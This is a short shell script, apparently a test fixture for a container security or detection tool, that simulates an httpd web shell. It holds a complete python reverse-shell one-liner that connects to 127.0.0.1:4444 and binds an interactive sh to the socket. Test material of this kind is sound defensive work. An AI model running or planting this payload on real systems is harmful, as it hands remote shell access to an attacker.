#!/bin/sh
# malicious: a web shell starts a python reverse shell: the socket to 127.0.0.1:4444 is dup2ed over stdin, stdout and stderr of sh
# container
. "$(dirname "$0")/../../lib.sh"
ctr_app httpd "python3 -c 'import socket,os;s=socket.create_connection((\"127.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/sh\",[\"sh\",\"-i\"])'"
